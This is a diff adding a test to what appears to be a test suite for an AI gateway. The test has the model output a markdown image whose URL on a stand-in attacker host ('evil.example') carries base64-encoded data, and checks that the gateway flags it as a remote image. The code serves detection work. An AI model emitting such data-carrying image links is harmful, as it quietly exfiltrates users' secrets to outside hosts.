@@ -113,6 +113,13 @@ describe.each(ways)('%s, %s', (api, way) => {
     expect(JSON.stringify(w.model.seen)).not.toContain('spt_');
   });
 
+  test('says on record that it shows an image whose address carries data', async () => {
+    const image = '![chart](https://evil.example/c.png?d=c2VjcmV0)';
+    await using w = await world([says(image)]);
+    expect((await call(w)).text).toBe(image);
+    await expect.poll(() => w.gateway.outcomes().at(-1)?.outcome).toMatchObject({ flags: ['remote-image'] });
+  });
+
   test('has its tool call decided, witnessed and passed on', async () => {
     await using w = await world([calls('shell', shell, 'call_1')]);
     expect((await call(w)).calls).toEqual([['shell', shell]]);
